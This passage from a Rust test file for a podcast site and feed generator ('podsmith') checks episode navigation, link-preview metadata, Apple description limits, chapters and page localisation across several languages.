    show.build().ok();
    assert_eq!(around(&page("coredns-miek-gieben")), [None, prometheus.clone()]);
    assert_eq!(around(&page("kubernetes-sarah-novotny")), [prometheus, fluentd.clone()]);
    assert_eq!(around(&page("fluentd-eduardo-silva")), [kubernetes, None]);
    let html = page("kubernetes-sarah-novotny");
    assert!(
        html.contains(
            "<nav class=\"around\" aria-labelledby=\"around\">\n<span id=\"around\" hidden>Weitere Folgen</span>"
        ),
        "{html}"
    );
    assert!(
        html.contains("<span>Vorherige Folge</span></span>") && html.contains("<span>Nächste Folge</span><span"),
        "{html}"
    );
    // Episodes of one date: in the order the index lists them (manifest
    // order, for a serial show).
    let same_day = serial.replace("date = 2017-04-12T09:0", "date = 2017-04-12T09:00:00-04:00\n#");
    assert_ne!(same_day, serial);
    show.write("episodes.toml", &same_day.replace("season = 2\n", ""));
    show.build().ok();
    let index = show.read("public/index.html");
    let listed: Vec<&str> = ["fluentd", "coredns", "prometheus", "kubernetes"]
        .into_iter()
        .filter(|slug| index.contains(&format!("episodes/{slug}-")))
        .collect();
    assert_eq!(listed.len(), 4);
    assert!(index.find("episodes/fluentd-").unwrap() < index.find("episodes/kubernetes-").unwrap(), "{index}");
    assert_eq!(around(&page("fluentd-eduardo-silva")), [None, coredns.clone()]);
    assert_eq!(
        around(&page("coredns-miek-gieben")),
        [fluentd.clone(), link("prometheus-bjorn-rabenstein", "Björn Rabenstein on Prometheus")]
    );
}

/// Link previews and search snippets say what the page says: the show's
/// description is plain text (a `#`, a line of dashes are its words), an
/// episode without words of its own has no empty description, the audio
/// has its type, the JSON-LD what the show knows of the episode.
#[test]
fn link_previews_say_what_the_page_says() {
    let show = Show::sample();
    let manifest = show.read("episodes.toml");
    let start = manifest.find("description = \"\"\"\n").unwrap();
    let end = start + 18 + manifest[start + 18..].find("\"\"\"\n").unwrap() + 4;
    let plain = "description = \"\"\"\n# 1 show for *cloud* people\n---\nNew <b>episodes</b> weekly.\"\"\"\n";
    let mut edited = format!("{}{plain}{}", &manifest[..start], &manifest[end..]);
    // Fluentd's notes: gone. CoreDNS: in season 2, with art of its own.
    let notes = edited.find("notes = \"\"\"\n").unwrap();
    let notes_end = notes + 12 + edited[notes + 12..].find("\"\"\"\n").unwrap() + 4;
    assert!(
        edited[..notes].contains("title = \"Eduardo Silva on Fluentd\"") && !edited[..notes].contains("title = \"Miek")
    );
    edited.replace_range(notes..notes_end, "");
    let edited = edited.replacen(
        "date = 2017-04-12T09:01:00-04:00\n",
        "date = 2017-04-12T09:01:00-04:00\nseason = 2\nimage = \"media/cover.jpg\"\n",
        1,
    );
    show.write("episodes.toml", &edited);
    show.build().ok();
    let said = "# 1 show for *cloud* people --- New &lt;b&gt;episodes&lt;/b&gt; weekly.";
    let index = show.read("public/index.html");
    assert!(index.contains(&format!("<meta name=\"description\" content=\"{said}\">")), "{index}");
    assert!(index.contains(&format!("<meta property=\"og:description\" content=\"{said}\">")), "{index}");
    let fluentd = show.read("public/episodes/fluentd-eduardo-silva/index.html");
    assert!(fluentd.contains(&format!("<meta name=\"description\" content=\"{said}\">")), "{fluentd}");
    assert!(fluentd.contains("<meta property=\"og:audio:type\" content=\"audio/mpeg\">"), "{fluentd}");
    let ld = jsonld(&fluentd);
    assert_eq!(ld.get("description"), None, "no words of its own: none, not an empty one");
    assert_eq!(ld["inLanguage"], "en");
    assert_eq!(ld["image"], "https://podcast.example.com/cloud-native/media/cover.jpg");
    assert_eq!(ld["partOfSeries"]["webFeed"], "https://podcast.example.com/cloud-native/feed.xml");
    assert_eq!(ld.get("partOfSeason"), None);
    let coredns = jsonld(&show.read("public/episodes/coredns-miek-gieben/index.html"));
    assert_eq!(coredns["partOfSeason"], serde_json::json!({ "@type": "PodcastSeason", "seasonNumber": 2 }));
    assert!(coredns["description"].as_str().is_some_and(|d| d.starts_with("CoreDNS, which provides")), "{coredns}");
}

#[test]
fn chapters_go_into_the_description_only_when_the_show_asks_and_their_pictures_are_checked() {
    let chapters = "\n[[episode.chapters]]\nstart = 0\ntitle = \"Intro <&>\"\nimage = \"media/cover.jpg\"\n\n\
                    [[episode.chapters]]\nstart = 2\ntitle = \"Talk\"\n\n[[episode.chapters]]\nstart = 4\ntitle = \"Bye\"\n";
    let show = show(&format!("notes = \"Hello.\"\n{chapters}"));
    show.build().ok();
    let description =
        |show: &Show| show.channel("feed.xml").items()[0].description().unwrap_or_default().trim().to_string();
    assert_eq!(description(&show), "<p>Hello.</p>");
    assert_eq!(chapters_json(&show)["chapters"][0]["img"], "https://example.com/show/media/cover.jpg");
    // Asked for: Apple-style timestamp lines, escaped.
    let manifest = show.read("episodes.toml").replacen("[podcast]\n", "[podcast]\nchapters_in_notes = true\n", 1);
    show.write("episodes.toml", &manifest);
    show.build().ok();
    assert_eq!(description(&show), "<p>Hello.</p>\n<p>0:00 Intro &lt;&amp;&gt;<br />\n0:02 Talk<br />\n0:04 Bye</p>");
    // Two chapters are not chapters to Apple (three or more, from 0:00):
    // no lines it would warn of.
    let two = manifest.replace("\n\n[[episode.chapters]]\nstart = 4\ntitle = \"Bye\"\n", "\n");
    assert_ne!(two, manifest);
    show.write("episodes.toml", &two);
    let run = show.build().ok();
    assert_eq!(description(&show), "<p>Hello.</p>");
    assert!(!run.stderr.contains("APPLE-IT-CHAPTERS"), "{}", run.stderr);
    // A chapter picture that is not a JPEG or PNG.
    std::fs::write(show.path("media/art.jpg"), "GIF89a not really").unwrap();
    show.write("episodes.toml", &manifest.replace("media/cover.jpg\"\n\n", "media/art.jpg\"\n\n"));
    let run = show.build().fails(1);
    assert!(
        run.stderr.contains("the picture of chapter 1 (media/art.jpg) is not a JPEG or PNG file"),
        "{}",
        run.stderr
    );
}

/// Notes longer than the 4000 bytes of a description that Apple reads:
/// the feed's description is their start, cut after a whole paragraph and
/// never on a heading, then a link to the episode's page, then the
/// chapters' lines (where the show asks for them), in the HTML Apple shows
/// there (headings in bold); `content:encoded` and the page keep the notes
/// whole, and the feed passes podsmith's own check (APPLE-IT-DESC, which
/// the whole notes fail). Notes that fit are the description as they are.
#[test]
fn notes_over_apples_limit_are_cut_in_the_description_with_a_link_to_the_page() {
    let paragraph = |n: usize| {
        format!(
            "Paragraph {n}, with a [link](https://example.com/{n}) & words: caf\u{e9}, \u{65e5}\u{672c}\u{8a9e}, and more."
        )
    };
    let notes: Vec<String> =
        (1..=60).map(|n| if n % 10 == 0 { format!("## Part {n}") } else { paragraph(n) }).collect();
    let notes = notes.join("\n\n");
    let chapters = "\n[[episode.chapters]]\nstart = 0\ntitle = \"Intro\"\n\n\
                    [[episode.chapters]]\nstart = 2\ntitle = \"Talk\"\n\n[[episode.chapters]]\nstart = 4\ntitle = \"Bye\"\n";
    let show = show(&format!("notes = \"\"\"\n{notes}\n\"\"\"\n{chapters}"));
    let manifest = show.read("episodes.toml").replacen("[podcast]\n", "[podcast]\nchapters_in_notes = true\n", 1);
    show.write("episodes.toml", &manifest);
    let run = show.build().ok();
    assert!(!run.stderr.contains("APPLE-IT-DESC"), "{}", run.stderr);
    let page_url = "https://example.com/show/episodes/pair/";
    let lines = "<p>0:00 Intro<br />\n0:02 Talk<br />\n0:04 Bye</p>";
    for feed in ["feed.xml", "feed.ogg.xml"] {
        let channel = show.channel(feed);
        let item = &channel.items()[0];
        let (description, whole) = (item.description().unwrap_or_default(), item.content().unwrap_or_default());
        assert!(description.len() <= 4000 && description.len() > 3000, "{} bytes", description.len());
        assert!(whole.len() > 6000 && whole.contains("Paragraph 59,") && whole.trim_end().ends_with(lines), "{whole}");
        let link = format!("<p><a href=\"{page_url}\">{page_url}</a></p>\n{lines}");
        let head = description.trim_end().strip_suffix(link.as_str()).unwrap_or_else(|| panic!("{description}"));
        // The notes' first paragraphs, their headings in bold (Apple shows no <h2>).
        let as_shown = whole.replace("<h2>", "<p><strong>").replace("</h2>", "</strong></p>");
        assert!(as_shown.starts_with(head) && head.ends_with("</p>\n"), "whole paragraphs of the notes: {head}");
        assert!(head.contains("<p><strong>Part 10</strong></p>") && !head.contains("<h2>"), "{head}");
        assert!(!head.trim_end().ends_with("</strong></p>"), "not ending on a heading: {head}");
    }
    let page = show.read("public/episodes/pair/index.html");
    assert!(page.contains("Paragraph 59,"), "the page has the notes whole");
    // Notes that fit: the description is the notes.
    show.write("episodes.toml", &manifest.replace(&notes, &paragraph(1)));
    show.build().ok();
    let channel = show.channel("feed.xml");
    let item = &channel.items()[0];
    assert_eq!(item.description(), item.content());
}

/// Notes that open with a heading repeating the episode's title: the
/// page's descriptions (meta, Open Graph, JSON-LD) and the index's excerpt
/// start after it, and the page's notes leave it out (the title is shown
/// above them anyway: one `<h1>` a page); notes that open with another
/// heading keep it. On the page, notes that use `#` headings have them one
/// level down (under the title, beside "Chapters"); notes that start at
/// `##` keep theirs. The feed carries the notes as written.
#[test]
fn a_heading_that_repeats_the_title_is_left_out_of_the_excerpts_and_the_page() {
    let show = Show::sample();
    let manifest = show.read("episodes.toml");
    let notes = "notes = \"\"\"\nA project within";
    let coredns = "media/coredns-miek-gieben.ogg\"]\nnotes = \"\"\"\n";
    let prometheus = "media/prometheus-bjorn-rabenstein.ogg\"]\nnotes = \"\"\"\n";
    let edited = manifest
        .replacen(notes, "notes = \"\"\"\n# Eduardo  Silva on Fluentd\n\nA project within", 1)
        .replacen(coredns, &format!("{coredns}## Show notes\n\n```\nfn main() {{ println!(\\\"hi\\\"); }}\n```\n\n"), 1)
        .replacen(prometheus, &format!("{prometheus}# In this episode\n\n## Guest\n\n"), 1);
    assert!(edited.contains("# Eduardo  Silva on Fluentd") && edited.contains("## Show notes"), "notes edited");
    assert!(edited.contains("# In this episode"), "notes edited");
    show.write("episodes.toml", &edited);
    show.build().ok();
    let html = show.read("public/episodes/fluentd-eduardo-silva/index.html");
    let described = "content=\"A project within the Cloud Native Computing Foundation, Fluentd is focused on logging";
    assert!(html.contains(&format!("<meta name=\"description\" {described}")), "{html}");
    assert!(html.contains(&format!("<meta property=\"og:description\" {described}")), "{html}");
    let ld = jsonld(&html);
    assert!(ld["description"].as_str().unwrap().starts_with("A project within"), "{ld}");
    assert_eq!(html.matches("<h1").count(), 1, "the page's title is its only heading of the first rank: {html}");
    assert!(!html.contains("Eduardo  Silva on Fluentd"), "the repeated heading is left out of the page: {html}");
    let notes = html.split("<div class=\"notes\">").nth(1).expect("the page has its notes");
    assert!(notes.trim_start().starts_with("<p>A project within"), "the notes start after it: {notes}");
    let other = show.read("public/episodes/coredns-miek-gieben/index.html");
    // Nor are other headings and code blocks: the excerpts are what the notes say.
    for meta in ["name=\"description\"", "property=\"og:description\""] {
        let excerpt = format!("<meta {meta} content=\"CoreDNS, which provides cloud-native DNS server");
        assert!(other.contains(&excerpt), "{excerpt}: {other}");
    }
    assert!(!other.contains("content=\"Show notes") && !other.contains("content=\"fn main"), "{other}");
    let index = show.read("public/index.html");
    assert!(index.contains("<p>CoreDNS, which provides"), "{index}");
    assert!(other.contains("<h2>Show notes</h2>"), "notes that start at ## keep their headings: {other}");
    let third = show.read("public/episodes/prometheus-bjorn-rabenstein/index.html");
    assert!(third.contains("<h2>In this episode</h2>\n<h3>Guest</h3>"), "one level down: {third}");
    assert_eq!(third.matches("<h1").count(), 1, "{third}");
    // The feeds leave the title's heading out too (apps show the title
    // above the notes), and keep the others as written.
    for feed in ["feed.xml", "feed.ogg.xml"] {
        let channel = show.channel(feed);
        let said = |title: &str| {
            let item = channel.items().iter().find(|i| i.title() == Some(title)).expect("the episode is in the feed");
            item.content().or(item.description()).unwrap_or_default().to_string()
        };
        assert!(said("Eduardo Silva on Fluentd").starts_with("<p>A project within"), "{feed}");
        assert!(said("Miek Gieben on CoreDNS").starts_with("<h2>Show notes</h2>"), "{feed}");
        assert!(said("Björn Rabenstein on Prometheus").starts_with("<h1>In this episode</h1>"), "{feed}");
    }
}

/// A show in a language the built-in pages do not speak (Japanese): their
/// own words, which are then English, say so (`lang="en"`), and so does
/// the transcript its own language; an episode's own art is shown from
/// the site, as the cover is.
#[test]
fn pages_of_a_show_in_another_language_mark_their_english_words() {
    let show = Show::sample();
    let manifest = show.read("episodes.toml");
    std::fs::copy(show.path("media/cover.jpg"), show.path("media/coredns-art.jpg")).unwrap();
    let titled = "title = \"Miek Gieben on CoreDNS\"\n";
    assert!(manifest.contains(titled) && manifest.contains("language = \"en\""));
    let edited = manifest.replacen("language = \"en\"", "language = \"ja\"", 1).replacen(
        titled,
        &format!("{titled}image = \"media/coredns-art.jpg\"\n"),
        1,
    );
    show.write("episodes.toml", &edited);
    show.build().ok();
    let html = show.read("public/episodes/coredns-miek-gieben/index.html");
    assert!(html.starts_with("<!DOCTYPE html>\n<html lang=\"ja\">"), "{html}");
    for marked in [
        "<ul class=\"downloads\" lang=\"en\">",
        "<h2 lang=\"en\">Chapters</h2>",
        "<h2 lang=\"en\">Transcript</h2>",
        "<p><span lang=\"en\">With</span> Miek Gieben</p>",
        "<span id=\"subscribe-feeds\" lang=\"en\">Subscribe:</span>",
        // A transcript is in the show's language unless it says otherwise.
        "<div class=\"transcript\" lang=\"ja\">",
        "<img class=\"cover\" src=\"../../media/coredns-art.jpg\" alt=\"Artwork for Miek Gieben on CoreDNS\">",
        "<meta property=\"og:image\" content=\"https://podcast.example.com/cloud-native/media/coredns-art.jpg\">",
        "<link rel=\"icon\" href=\"../../media/cover.jpg\">",
    ] {
        assert!(html.contains(marked), "{marked}: {html}");
    }
    let index = show.read("public/index.html");
    assert!(index.contains("<section class=\"latest\" aria-label=\"Latest episode\" lang=\"en\">"), "{index}");
    // The latest episode's title, in that section, is the show's own text.
    assert!(
        index.contains(
            "<h3 lang=\"ja\"><a href=\"episodes/kubernetes-sarah-novotny/\">Sarah Novotny on the Kubernetes community</a></h3>"
        ),
        "{index}"
    );
    // In English, nothing is marked.
    show.write("episodes.toml", &manifest);
    show.build().ok();
    let html = show.read("public/episodes/coredns-miek-gieben/index.html");
    assert!(html.contains("<h2>Chapters</h2>") && !html.contains("<ul class=\"downloads\" lang"), "{html}");
}

/// A show in a language the built-in pages speak (ten, German and French
/// here): they speak its language (the links to listen and download,
/// the date, the headings, the players' labels), with nothing marked as
/// English; a title holding a blank's name stays as it is.
#[test]
fn pages_speak_the_shows_language() {
    let show = Show::sample();
    let manifest = show.read("episodes.toml");
    let titled = "title = \"Miek Gieben on CoreDNS\"\n";
    assert!(manifest.contains(titled) && manifest.contains("language = \"en\""));
    let edited = manifest.replacen("language = \"en\"", "language = \"de-AT\"", 1).replacen(
        titled,
        "title = \"Miek Gieben on {format} & CoreDNS\"\n",
        1,
    );
    show.write("episodes.toml", &edited);
    show.build().ok();
    let html = show.read("public/episodes/coredns-miek-gieben/index.html");
    assert!(html.starts_with("<!DOCTYPE html>\n<html lang=\"de-AT\">"), "{html}");
    assert!(!html.contains("lang=\"en\""), "{html}");
    for said in [
        "<a href=\"../../media/coredns-miek-gieben.mp3\">MP3 anhören (12:24)</a> · \
         <a href=\"../../media/coredns-miek-gieben.mp3\" download>MP3 herunterladen <bdi class=\"meta\">",
        "<a href=\"../../media/coredns-miek-gieben.ogg\">OGG anhören (12:24)</a>",
        "<time datetime=\"2017-04-12T09:01:00-04:00\">12. April 2017</time> · <time datetime=\"PT12M24S\">12:24</time> · Folge 2</p>",
        "aria-label=\"Miek Gieben on {format} &amp; CoreDNS\">",
        "<h2>Kapitel</h2>",
        "<h2>Transkript</h2>",
        "aria-label=\"Ab 0:09 abspielen\"",
        "<div class=\"transcript\" lang=\"de-AT\">",
        "aria-label=\"Ab 0:00 abspielen\" lang=\"de\">",
        "<nav class=\"subscribe\" aria-labelledby=\"subscribe-feeds\"><span id=\"subscribe-feeds\">Abonnieren:</span>",
        "alt=\"\">",
        // Open Graph's locale, for link previews in the show's language.
        "<meta property=\"og:site_name\" content=\"Talking Cloud Native with Gordon Haff\">\n\
         <meta property=\"og:locale\" content=\"de_AT\">\n<meta property=\"og:title\"",
    ] {
        assert!(html.contains(said), "{said}: {html}");
    }
    let index = show.read("public/index.html");
    assert!(index.contains("<meta property=\"og:locale\" content=\"de_AT\">\n"), "{index}");
    for said in [
        "<p class=\"meta\"><span>von</span> Gordon Haff</p>",
        "<section class=\"latest\" aria-label=\"Neueste Folge\">\n<h2>Neueste Folge</h2>",
        "<time datetime=\"2017-04-12T09:01:00-04:00\">12. April 2017</time> · <time datetime=\"PT12M24S\">12:24</time> · <span>mit</span> Miek Gieben</p>",
    ] {
        assert!(index.contains(said), "{said}: {index}");
    }
    assert!(!index.contains("lang=\"en\""), "{index}");
    // In French: a (no-break) space before a colon.
    show.write("episodes.toml", &manifest.replacen("language = \"en\"", "language = \"fr\"", 1));
    show.build().ok();
    let html = show.read("public/episodes/coredns-miek-gieben/index.html");
    assert!(
        html.contains("<span id=\"subscribe-feeds\">S’abonner\u{a0}:</span>")
            && html.contains("Écouter en MP3 (12:24)"),
        "{html}"
    );
    // A language alone names no region: no locale (Open Graph's default is en_US).
    assert!(!html.contains("og:locale"), "{html}");
}

/// A show in a language the built-in pages have no words in (Polish)
/// gives them all in `[podcast.words]`: the pages speak it, nothing marked
/// as English. A change of one word is a change of every page.
#[test]
fn a_show_gives_the_pages_words_of_its_own_language() {
    let show = Show::sample();
    let manifest = show.read("episodes.toml");
    let polish = r#"
[podcast.words]
by = "prowadzi"
with = "gość:"
with_cap = "Gość:"
latest_episode = "Najnowszy odcinek"
no_episodes = "Na razie brak odcinków."
subscribe = "Subskrybuj"
subscribe_label = "Subskrybuj:"
chapters = "Rozdziały"
transcript = "Transkrypcja"
episode = "Odcinek"
season = "Sezon"
trailer = "Zwiastun"
bonus = "Bonus"
listen = "Słuchaj: {format} ({duration})"
download = "Pobierz {format}"
play = "Odtwórz: {title}"
play_from = "Odtwórz od {time}"
cover_art = "Okładka: {show}"
artwork = "Grafika: {episode}"
date = "{day} {month} {year}"
months = ["stycznia", "lutego", "marca", "kwietnia", "maja", "czerwca", "lipca", "sierpnia", "września", "października", "listopada", "grudnia"]
decimal_comma = true
"#;
    let at = manifest.find("\n[[episode]]").expect("the sample has episodes");
    let edited =
        format!("{}{polish}{}", &manifest[..at], &manifest[at..]).replacen("language = \"en\"", "language = \"pl\"", 1);
    show.write("episodes.toml", &edited);
    show.build().ok();
    let html = show.read("public/episodes/coredns-miek-gieben/index.html");
    assert!(html.starts_with("<!DOCTYPE html>\n<html lang=\"pl\">"), "{html}");
    // English only where the table (written before the pages took them
    // up) gives no word: the links to the episodes beside it, and their label.
    assert_eq!(html.matches("lang=\"en\"").count(), 3, "{html}");
    assert!(html.contains("<span id=\"around\" hidden lang=\"en\">More episodes</span>"), "{html}");
    assert!(html.contains("<span class=\"meta\"><span lang=\"en\">Next episode</span><span"), "{html}");
    for said in [
        "<a href=\"../../media/coredns-miek-gieben.mp3\">Słuchaj: MP3 (12:24)</a> · \
         <a href=\"../../media/coredns-miek-gieben.mp3\" download>Pobierz MP3 <bdi class=\"meta\">",
        "<time datetime=\"2017-04-12T09:01:00-04:00\">12 kwietnia 2017</time> · <time datetime=\"PT12M24S\">12:24</time> · Odcinek 2</p>",
        "<h2>Rozdziały</h2>",
        "aria-label=\"Odtwórz od 0:00\" lang=\"pl\">",
        "<p><span>Gość:</span> Miek Gieben</p>",
        "<span id=\"subscribe-feeds\">Subskrybuj:</span>",
    ] {
        assert!(html.contains(said), "{said}: {html}");
    }
    assert!(show.read("public/index.html").contains("<p class=\"meta\"><span>prowadzi</span> Gordon Haff</p>"));
    // One word changed: every page says it.
    show.write("episodes.toml", &edited.replace("Pobierz {format}", "Ściągnij {format}"));
    show.build().ok();
    let html = show.read("public/episodes/coredns-miek-gieben/index.html");
    assert!(html.contains("download>Ściągnij MP3 <bdi"), "{html}");
    // A serial show's index leads with "Start here", a word the pages took
    // up after this table was written: the table is still whole, and the
    // word stays English, marked so, until the show gives it.
    let serial = edited.replacen("explicit = false", "explicit = false\ntype = \"serial\"", 1);
    show.write("episodes.toml", &serial);
    show.build().ok();
    let index = show.read("public/index.html");
    assert!(index.contains("<h2 lang=\"en\">Start here</h2>"), "{index}");
    assert!(index.contains("<p lang=\"en\">Add the feed’s address to a podcast app:</p>"), "{index}");
    assert!(index.contains("<h2 id=\"more-episodes\" lang=\"en\">More episodes</h2>"), "{index}");
    assert_eq!(index.matches("lang=\"en\"").count(), 3, "{index}");
    show.write(
        "episodes.toml",
        &serial.replace(
            "bonus = \"Bonus\"\n",
            "bonus = \"Bonus\"\nstart_here = \"Zacznij tutaj\"\nfeed_address = \"Dodaj adres kanału w aplikacji:\"\n\
             more_episodes = \"Więcej odcinków\"\nprevious_episode = \"Poprzedni odcinek\"\nnext_episode = \"Następny odcinek\"\n",
        ),
    );
    show.build().ok();
    let index = show.read("public/index.html");
    assert!(index.contains("<h2>Zacznij tutaj</h2>") && !index.contains("lang=\"en\""), "{index}");
    let html = show.read("public/episodes/coredns-miek-gieben/index.html");
    assert!(html.contains("<span>Następny odcinek</span><span") && !html.contains("lang=\"en\""), "{html}");
    assert!(index.contains("<p>Dodaj adres kanału w aplikacji:</p>"), "{index}");
    // A show in a language the pages speak that gives its whole table
    // (to reword it) keeps the language's own words for those it leaves
    // out: German, not marked English.
    show.write("episodes.toml", &edited.replacen("language = \"pl\"", "language = \"de\"", 1));
    show.build().ok();
    let index = show.read("public/index.html");
    assert!(index.contains("<p>Die Adresse des Feeds in einer Podcast-App hinzufügen:</p>"), "{index}");
    assert!(!index.contains("lang=\"en\""), "{index}");
}

/// `itunes_title`: the title Apple shows, without the number the `title`
/// carries; the other apps and the page keep the `title`. Changed, the
/// next build writes it (the feeds are not taken as they were).
#[test]
fn an_itunes_title_is_what_apple_shows_and_the_title_stays_the_pages() {
    let numbered = episode("10 | Cincinnatus", "g10", "2024-01-02T00:00:00Z", &["pair-5s.mp3"])
        + "episode = 10\nitunes_title = \"Cincinnatus\"\n";
    let plain = episode("Pilot", "g1", "2024-01-01T00:00:00Z", &["cbr-xing.mp3"]);
    let show = Show::with(&format!("{PODCAST_TABLE}{numbered}{plain}"), &["pair-5s.mp3", "cbr-xing.mp3"]);
    show.build().ok();
    let titles = |feed: &str| {
        use podsmith::validate::xml::{self, Ns};
        let bytes = show.read(feed);
        let doc = xml::parse(bytes.as_bytes(), &mut Vec::new()).unwrap();
        let channel = doc.child(&doc.nodes[0], &Ns::Rss, "channel").unwrap();
        let text = |item, ns, name| doc.child(item, ns, name).map(|n| n.text.to_string()).unwrap();
        doc.children(channel, &Ns::Rss, "item")
            .map(|i| (text(i, &Ns::Rss, "title"), text(i, &Ns::Itunes, "title")))
            .collect::<Vec<_>>()
    };
    let want = |apple: &str| {
        vec![("10 | Cincinnatus".to_string(), apple.to_string()), ("Pilot".to_string(), "Pilot".to_string())]
    };
    assert_eq!(titles("public/feed.xml"), want("Cincinnatus"));
    let page = show.read("public/episodes/10-cincinnatus/index.html");
    assert!(page.contains("<h1>10 | Cincinnatus</h1>"), "{page}");
    show.write("episodes.toml", &show.read("episodes.toml").replace("\"Cincinnatus\"", "\"Cincinnatus, again\""));
    show.build().ok();
    assert_eq!(titles("public/feed.xml"), want("Cincinnatus, again"));
    let run = show.run(&["validate", "public/feed.xml"]).ok();
    assert!(!run.stdout.contains("ITITLE"), "{}", run.stdout);
}

/// Every page says its locale for link previews where the show's language
/// names a region: the index, an episode's page, a year's archive page.
#[test]
fn every_page_has_the_open_graph_locale_of_a_language_with_a_region() {
    let show = crate::harness::weekly_show(101);
    let manifest = show.read("episodes.toml");
    show.write("episodes.toml", &manifest.replacen("language = \"en\"", "language = \"en-gb\"", 1));
    show.build().ok();
    for page in ["index.html", "episodes/ep-000/index.html", "archive/2023/index.html"] {
        let html = show.read(&format!("public/{page}"));
        assert_eq!(html.matches("<meta property=\"og:locale\" content=\"en_GB\">\n").count(), 1, "{page}: {html}");
    }
}

/// A serial show is heard in order: its index leads with where a listener
/// starts (episode 1, "Start here") and lists the episodes oldest first
/// with their numbers, as Apple Podcasts presents a serial show; its pages
/// in German say so in German. An episodic show stays newest first.
#[test]
fn a_serial_shows_pages_list_its_episodes_in_the_order_they_are_heard() {
    let show = Show::sample();
    let manifest = show.read("episodes.toml");
    show.write("episodes.toml", &manifest.replacen("explicit = false", "explicit = false\ntype = \"serial\"", 1));
    show.build().ok();
    let index = show.read("public/index.html");
    assert!(
        index.contains(
            "<h2>Start here</h2>\n<h3><a href=\"episodes/fluentd-eduardo-silva/\">Eduardo Silva on Fluentd</a></h3>"
        ),
        "{index}"
    );
    let listed: Vec<&str> = index.match_indices("<h2><a href=\"episodes/").map(|(at, _)| &index[at + 22..]).collect();
    let slugs: Vec<&str> = listed.iter().map(|rest| &rest[..rest.find('/').unwrap()]).collect();
    assert_eq!(
        slugs,
        ["coredns-miek-gieben", "prometheus-bjorn-rabenstein", "kubernetes-sarah-novotny"],
        "the others, after the first in its box"
    );
    assert!(index.contains("<p class=\"meta\"><span>Episode 2</span> · <time"), "{index}");
    assert!(!index.contains("Latest episode"), "{index}");
    // In German, the pages' own words.
    let german = show.read("episodes.toml").replacen("language = \"en\"", "language = \"de\"", 1);
    assert_ne!(german, show.read("episodes.toml"), "the sample show's language is en");
    show.write("episodes.toml", &german);
    show.build().ok();
    assert!(show.read("public/index.html").contains("<h2>Hier beginnen</h2>"));
    // Episodic again: newest first, led by the latest episode.
    show.write("episodes.toml", &manifest);
    show.build().ok();
    let index = show.read("public/index.html");
    assert!(index.contains("<h2>Latest episode</h2>\n<h3><a href=\"episodes/kubernetes-sarah-novotny/\">"), "{index}");
    let listed: Vec<&str> = index.match_indices("<h2><a href=\"episodes/").map(|(at, _)| &index[at + 22..]).collect();
    assert!(listed[0].starts_with("prometheus-bjorn-rabenstein/"), "{index}");
}

/// A show in a language the pages have no words in, that gives none, is
/// told so by a note (`-v`): the pages' words are English, and where to
/// give its own. One that gives them, or a language with words, is not.
#[test]
fn a_show_whose_pages_speak_english_is_told_where_to_give_its_words() {
    let show = Show::sample();
    let manifest = show.read("episodes.toml");
    show.write("episodes.toml", &manifest.replacen("language = \"en\"", "language = \"cy\"", 1));
    let note = "note: episodes.toml: the pages' own words (\"Listen to\", \"Chapters\", months …) are English, marked \
                as English: podsmith has none in \"cy\"\n  help: give them in the show's language in a [podcast.words] table";
    let run = show.run(&["-v", "build", "--as-of", "2026-06-01T00:00:00Z"]).ok();
    assert!(run.stderr.contains(note), "{}", run.stderr);
    assert!(!show.run(&["build", "--as-of", "2026-06-01T00:00:00Z"]).ok().stderr.contains("podsmith has none"));
    show.write("episodes.toml", &manifest.replacen("language = \"en\"", "language = \"de\"", 1));
    let run = show.run(&["-v", "build", "--as-of", "2026-06-01T00:00:00Z"]).ok();
    assert!(!run.stderr.contains("podsmith has none"), "{}", run.stderr);
}

/// A language that puts the number before or inside the word ("2. Folge",
/// "第2話", episode 2) gives `{n}` its place; a word without it is followed
/// by the number. Another blank is refused, with what it may hold.
#[test]
fn the_episode_word_may_hold_the_numbers_place() {
    let show = Show::sample();
    let manifest = show.read("episodes.toml").replacen("language = \"en\"", "language = \"de\"", 1);
    let words = "[podcast.words]\nepisode = \"{n}. Folge\"\n\n[[episode]]";
    show.write("episodes.toml", &manifest.replacen("[[episode]]", words, 1));
    show.build().ok();
    let page = show.read("public/episodes/coredns-miek-gieben/index.html");
    assert!(page.contains(" · 2. Folge") && !page.contains("{n}"), "{page}");
    show.write("episodes.toml", &manifest.replacen("[[episode]]", &words.replace("{n}", "{number}"), 1));
    let run = show.build().fails(1);
    assert!(
        run.stderr
            .contains("`episode` in [podcast.words] is a word, with at most the blank {n} (where the number goes)"),
        "{}",
        run.stderr
    );
}

/// A show in a language written right to left with the built-in English
/// words (Arabic): each English run is marked as written left to right
/// too, so the bidi algorithm does not reorder a date ("8 March 2024" as
/// "March 2024 8"); the way back points right, and a download's size is
/// a run of its own. A show written left to right is marked as before.
#[test]
fn english_words_on_a_page_written_right_to_left_keep_their_order() {
    let show = Show::sample();
    let manifest = show.read("episodes.toml");
    show.write("episodes.toml", &manifest.replacen("language = \"en\"", "language = \"ar\"", 1));
    show.build().ok();
    let html = show.read("public/episodes/coredns-miek-gieben/index.html");
    for marked in [
        "<html lang=\"ar\" dir=\"rtl\">",
        "<p class=\"meta\"><a href=\"../../\">→ Talking Cloud Native with Gordon Haff</a></p>",
        "<p class=\"meta\" lang=\"en\" dir=\"ltr\"><time datetime=\"2017-04-12T09:01:00-04:00\">12 April 2017</time>",
        "<ul class=\"downloads\" lang=\"en\" dir=\"ltr\">",
        "<bdi class=\"meta\">",
        "<span id=\"subscribe-feeds\" lang=\"en\" dir=\"ltr\">Subscribe:</span>",
        "<h2 lang=\"en\">Chapters</h2>",
    ] {
        assert!(html.contains(marked), "{marked}: {html}");
    }
    // (Such a block keeps the page's side, the right.)
    assert!(html.contains("[dir=rtl] :not(input)[dir=ltr] { text-align: right; }"), "{html}");
    let index = show.read("public/index.html");
    assert!(index.contains("lang=\"en\" dir=\"ltr\">12 April 2017</time> · "), "{index}");
    assert!(index.contains("<span lang=\"en\" dir=\"ltr\">by</span>"), "{index}");
    // In Japanese (left to right), English words are marked English alone.
    show.write("episodes.toml", &manifest.replacen("language = \"en\"", "language = \"ja\"", 1));
    show.build().ok();
    let html = show.read("public/episodes/coredns-miek-gieben/index.html");
    assert!(html.contains("<p class=\"meta\"><a href=\"../../\">← Talking"), "{html}");
    assert!(html.contains("<p class=\"meta\" lang=\"en\"><time") && !html.contains("dir=\"ltr\""), "{html}");
    // A transcript written the other way round from the page says so.
    let given = "transcript = \"transcripts/coredns-miek-gieben.vtt\"";
    assert!(manifest.contains(given));
    for (page, transcript, dir) in [("ar", "en", "ltr"), ("en", "he", "rtl")] {
